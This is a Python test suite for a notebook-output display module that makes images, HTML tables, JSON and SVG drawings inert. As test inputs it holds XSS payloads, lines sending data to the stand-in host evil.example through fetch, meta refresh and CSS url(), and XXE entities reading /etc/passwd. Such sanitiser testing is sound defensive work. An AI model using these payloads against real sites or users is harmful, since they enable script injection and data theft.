"""What code displays: hostile bundles become text, tables and files that do nothing when they are opened."""

from __future__ import annotations

import base64
import json
import re
import struct
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ecoassist.kernel.displays import htmltables
from ecoassist.kernel.displays.htmltables import CELL, COLUMNS, LARGEST, PAGE_ROWS, ROWS, TABLES
from ecoassist.kernel.displays.rich import LARGEST_JSON, shown
from ecoassist.kernel.displays.svg import drawing
from ecoassist.types import Table

PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">II", 640, 480) + b"rest"
FIGURE = "<Figure size 640x480 with 1 Axes>"
FRAME = """<div>
<style scoped>.dataframe tbody tr th {vertical-align: top;}</style>
<table border="1" class="dataframe">
  <thead><tr style="text-align: right;"><th></th><th>city</th><th>&deg;C</th></tr></thead>
  <tbody>
    <tr><th>0</th><td>Oslo &amp; <b>Bergen</b></td><td>4.2</td></tr>
    <tr><th>1</th><td><script>alert(1)</script>Rome<!-- <td>no</td> --></td><td>18</td></tr>
  </tbody>
</table>
<p>2 rows × 2 columns</p>
</div>"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


def coded(content: bytes) -> str:
    return base64.b64encode(content).decode()


def test_a_figure_is_a_file_and_the_model_knows_of_it() -> None:
    seen = shown({"text/plain": FIGURE, "image/png": coded(PNG) + "\n"})
    assert seen.text == "[figure: image/png, 640 x 480]"
    assert [(one.stem, one.kind, one.content) for one in seen.products] == [("figure", "image/png", PNG)]
    assert shown({"text/plain": "my plot", "image/png": coded(PNG)}).text == "my plot\n[figure: image/png, 640 x 480]"


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("image/jpeg", b"\xff\xd8\xff\xe0rest"),
        ("image/gif", b"GIF89a\x01\x00\x02\x00"),
        ("image/webp", b"RIFF\0\0\0\0WEBPVP8 "),
        ("application/pdf", b"%PDF-1.7"),
    ],
)
def test_other_pictures_and_documents_are_files(kind: str, content: bytes) -> None:
    assert [(one.kind, one.content) for one in shown({kind: coded(content)}).products] == [(kind, content)]


@pytest.mark.parametrize(
    "form",
    [
        coded(b"<script>alert(1)</script>"),
        coded(PNG)[:-2] + "?=",
        "",
        "=",
        "é",
        7,
        None,
        [1],
        {"a": 1},
        coded(b"GIF89a"),
    ],
)
def test_what_is_not_the_picture_it_says_is_not_kept(form: object) -> None:
    seen = shown({"text/plain": FIGURE, "image/png": form})
    assert seen.products == ()
    assert seen.text == FIGURE


def test_a_data_frame_is_text_for_the_model_a_table_and_a_page() -> None:
    seen = shown({"text/plain": "   city", "text/html": FRAME})
    assert seen.text == "   city"
    assert seen.tables == (Table(("", "city", "°C"), (("0", "Oslo & Bergen", "4.2"), ("1", "Rome", "18")), 2),)
    (product,) = seen.products
    assert (product.stem, product.kind) == ("table", "text/html")
    page = product.content.decode()
    assert "<td>Oslo &amp; Bergen</td>" in page
    assert "2 rows × 2 columns" in page
    assert "alert" not in page


def test_without_a_text_form_the_table_itself_is_the_text() -> None:
    assert shown({"text/html": FRAME}).text.startswith(" | city | °C\n0 | Oslo & Bergen | 4.2\n")


def test_the_page_of_a_table_is_made_of_its_text_alone() -> None:
    html = "<table><tr><td onclick=x>&lt;script&gt;alert(1)&lt;/script&gt;<img src=x onerror=y>&quot;</td></tr></table>"
    page = shown({"text/html": html}).products[0].content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&quot;" in page
    assert not re.search(r"<(script|img)|on(click|error)", page)


def test_merged_cells_keep_the_columns_under_each_other() -> None:
    html = (
        "<table><thead><tr><th></th><th colspan=2>a</th></tr><tr><th></th><th>x</th><th>y</th></tr></thead>"
        '<tr><th rowspan="2">k</th><td>1</td><td>2</td></tr><tr><td>3</td><td>4</td></tr></table>'
    )
    (table,) = shown({"text/html": html}).tables
    assert table == Table(("", "a x", "y"), (("k", "1", "2"), ("", "3", "4")), 2)


def test_a_table_within_a_cell_is_text_of_that_cell() -> None:
    html = "<table><tr><td>a<table><tr><td>b</td><td>c</td></tr></table>d</td><td>e</td></tr></table>"
    assert shown({"text/html": html}).tables == (Table((), (("a b c d", "e"),), 1),)


def test_a_table_is_bounded_in_every_direction_and_tells_its_rows() -> None:
    row = "<tr>" + f"<td>{'x' * 300}</td>" * 30 + "</tr>"
    (table,) = shown({"text/html": f"<table>{row}{'<tr><td>1</td></tr>' * 2_000}</table>"}).tables
    assert (table.total, len(table.rows), len(table.rows[0])) == (2_001, ROWS, COLUMNS)
    assert table.rows[0][0] == "x" * (CELL - 1) + "…"
    assert len(shown({"text/html": "<table><tr><td>1</td></tr></table>" * 50}).tables) == TABLES
    wide = shown({"text/html": f"<table>{'<tr><td colspan=9999 rowspan=9999>1</td></tr>' * 3_000}</table>"})
    assert wide.tables[0].total == 3_000
    assert len(wide.products[0].content) < 2_000_000
    assert f"{3_000 - PAGE_ROWS:,} more rows were left out" in wide.products[0].content.decode()


def test_html_that_is_too_large_to_look_at_is_kept_whole() -> None:
    seen = shown({"text/html": FRAME + " " * LARGEST})
    assert seen.tables == ()
    assert seen.products[0].stem == "page"
    assert seen.text == "[page: text/html]"


PATHS = ["<!--", "<a ", '<a b="', "<a b='\">", "<", "<table>", "<table><td>", "<td", "<script>", "</", "&a", " ", "\n "]


@pytest.mark.parametrize(
    "piece", [*PATHS, "<table><tr><td rowspan=9999 colspan=99>", "<td colspan ", "&#9", "<!-- -", "<a\t"]
)
def test_no_html_takes_long(piece: str) -> None:
    """Each of these took a backtracking or searching parser minutes; the time limit of the suite is the judge."""
    for head in ("", "<table><tr><td>"):
        shown({"text/html": head + piece * ((LARGEST - 20) // len(piece))})
    shown({"text/html": f"<table><td>&#{'9' * 200_000};"})


PIECES = (
    "<table> </table> <tr> </tr> <td> <th\tcolspan=3> <td\trowspan=2> </td> <thead> <br> </thead> <!-- --> <script>"
)
PIECES += ' </script> &amp; &#x &lt;b x < > " \ud800 é'
MARKUP = st.lists(st.sampled_from(PIECES.split(" ")), max_size=60).map("".join)


@given(st.one_of(MARKUP, st.text()))
def test_any_html_becomes_bounded_tables_and_a_page_without_foreign_markup(html: str) -> None:
    seen = shown({"text/html": html})
    for table in seen.tables:
        assert len({len(row) for row in table.rows}) <= ROWS
        assert all(len(row) <= COLUMNS and all(len(cell) <= CELL for cell in row) for row in table.rows)
        assert table.total >= len(table.rows)
    for product in seen.products:
        text = product.content.decode()
        if product.stem == "table":
            known = {"!DOCTYPE", "meta", "title", "style", "table", "thead", "tbody", "tr", "th", "td", "p"}
            assert set(re.findall(r"</?([^\s>]+)", text)) <= known


VALUES: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.binary(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text() | st.integers(), inner),
    max_leaves=10,
)
KINDS = (
    "text/plain text/html text/markdown text/latex image/png image/gif image/svg+xml application/json application/pdf"
)


@settings(max_examples=300)
@given(VALUES | st.dictionaries(st.sampled_from(KINDS.split()), VALUES | MARKUP))
def test_no_bundle_breaks_it(bundle: object) -> None:
    seen = shown(bundle)
    seen.text.encode()
    assert len(seen.products) <= 1


@pytest.mark.parametrize(
    "html",
    [
        "<script>fetch('https://evil.example')</script>",
        '<META http-equiv="refresh" content="0;url=https://evil.example/?data">',
        '<link rel="dns-prefetch" href="//secret.evil.example">',
        '<base href="https://evil.example/">',
        '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
    ],
)
def test_other_html_is_kept_under_a_policy_and_without_what_a_policy_misses(html: str) -> None:
    (product,) = shown({"text/html": f"<b>hello</b>{html}"}).products
    page = product.content.decode()
    policy, _, rest = page.partition("<b>hello</b>")
    assert policy.index("default-src 'none'") < 200, "a policy holds for what comes after it"
    assert "script-src" not in policy
    assert not re.search(r"<(script|meta|link|base|iframe|object|embed)", rest, re.I)


@pytest.mark.parametrize(
    ("bundle", "text"),
    [
        ({"text/plain": "<IPython.core.display.HTML object>", "text/html": "<b>hi</b><br>there"}, "hi\nthere"),
        ({"text/plain": "<IPython.core.display.Markdown object>", "text/markdown": "# hi"}, "# hi"),
        ({"text/latex": "$x$"}, "$x$"),
        ({"text/plain": ["a\n", "b", 3]}, "a\nb"),
        ({"text/plain": "<object>"}, "<object>"),
        ({"text/plain": "\ud800"}, "?"),
        ({}, ""),
        (None, ""),
        ([], ""),
    ],
)
def test_the_form_that_says_most_is_the_text(bundle: object, text: str) -> None:
    assert shown(bundle).text == text


def test_json_is_laid_out_and_kept() -> None:
    seen = shown({"application/json": {"b": [1, "é"]}, "text/plain": "<IPython.core.display.JSON object>"})
    assert seen.products[0].content.decode() == seen.text == '{\n  "b": [\n    1,\n    "é"\n  ]\n}\n'


def test_deep_json_does_not_blow_up() -> None:
    deep: list[Any] = []
    inner = deep
    for _ in range(500):
        inner.append([])
        inner = inner[0]
    inner.extend([0] * 100_000)
    content = shown({"application/json": deep}).products[0].content
    assert len(content) < LARGEST_JSON
    assert json.loads(content) == deep
    inner.append(deep)
    assert shown({"application/json": deep}).products == ()


def test_of_several_forms_the_picture_is_kept() -> None:
    forms = {"image/svg+xml": SVG.format(""), "text/html": FRAME, "application/json": {}, "image/png": coded(PNG)}
    kinds = []
    for kind in ("image/png", "image/svg+xml", "text/html", "application/json"):
        kinds.append(shown(forms).products[0].kind)
        del forms[kind]
    assert kinds == ["image/png", "image/svg+xml", "text/html", "application/json"]


MATPLOTLIB = (
    '<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n'
    '  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    + SVG.format(
        "<metadata>"
        '<rdf:RDF xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#" '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><cc:Work>'
        '<dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/></cc:Work></rdf:RDF></metadata>'
        '<defs><style type="text/css">*{stroke-linejoin: round}</style><clipPath id="p1"><rect/></clipPath></defs>'
        '<g clip-path="url(#p1)" style="fill: #ffffff"><use xlink:href="#m1"/>'
        '<image xlink:href="data:image/png;base64,AAAA"/><text>a@b &lt;c&gt;</text></g>'
    )
)


def test_a_drawing_as_plotting_libraries_write_it_is_kept_without_its_prologue() -> None:
    kept = drawing(MATPLOTLIB)
    assert kept
    assert kept.startswith("<svg ")
    assert kept == MATPLOTLIB[MATPLOTLIB.index("<svg") :]


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        '<rect onload="alert(1)"/>',
        '<a href="javascript:alert(1)"><rect/></a>',
        '<use xlink:href="https://evil.example/x.svg#a"/>',
        '<image href="https://evil.example/x.png"/>',
        '<image href="data:image/svg+xml;base64,AAAA"/>',
        '<image href="file:///etc/passwd"/>',
        "<foreignObject><body/></foreignObject>",
        '<rect style="fill: url( https://evil.example )"/>',
        '<rect fill="url(&#34;//evil.example&#34;)"/>',
        "<style>@import '//evil.example';</style>",
        "<style>*{background:\\75rl(//evil.example)}</style>",
        "<style>*{a:u</style><style>rl(//evil.example)}</style><style>b{x:url(//evil.example)}</style>",
        '<set attributeName="href" to="javascript:alert(1)"/>',
        '<rect xml:base="https://evil.example/"/>',
        '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
        "<?xml-stylesheet href='//evil.example'?>",
        "<g>",
        "&xxe;",
        "\0",
        "<style>*{a:u<g/>rl(//evil.example)}</style>",
    ],
)
def test_a_drawing_that_acts_or_loads_is_only_text(inside: str) -> None:
    seen = shown({"text/plain": "<a drawing>", "image/svg+xml": SVG.format(inside)})
    assert seen.products == ()
    assert seen.text == "<a drawing>"


@pytest.mark.parametrize(
    "document",
    [
        '<!DOCTYPE svg [<!ENTITY a "b">]>' + SVG.format("&a;"),
        '<!DOCTYPE svg SYSTEM "a"><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + SVG.format("&a;"),
        "<html/>",
        "<svg/>",
        "",
        SVG.format("<g>" * 100_000),
    ],
)
def test_no_entity_is_expanded_and_nothing_else_is_a_drawing(document: str) -> None:
    assert drawing(document) is None


def test_a_deep_drawing_is_read_without_recursion() -> None:
    assert drawing(SVG.format("<g>" * 50_000 + "</g>" * 50_000))


def test_an_own_page_needs_no_table_to_be_closed() -> None:
    tables, prose = htmltables.parse("before<table><tr><td>1<td>2<tr><td>3")
    assert [table.rows for table in tables] == [[["1", "2"], ["3"]]]
    assert prose == "before"
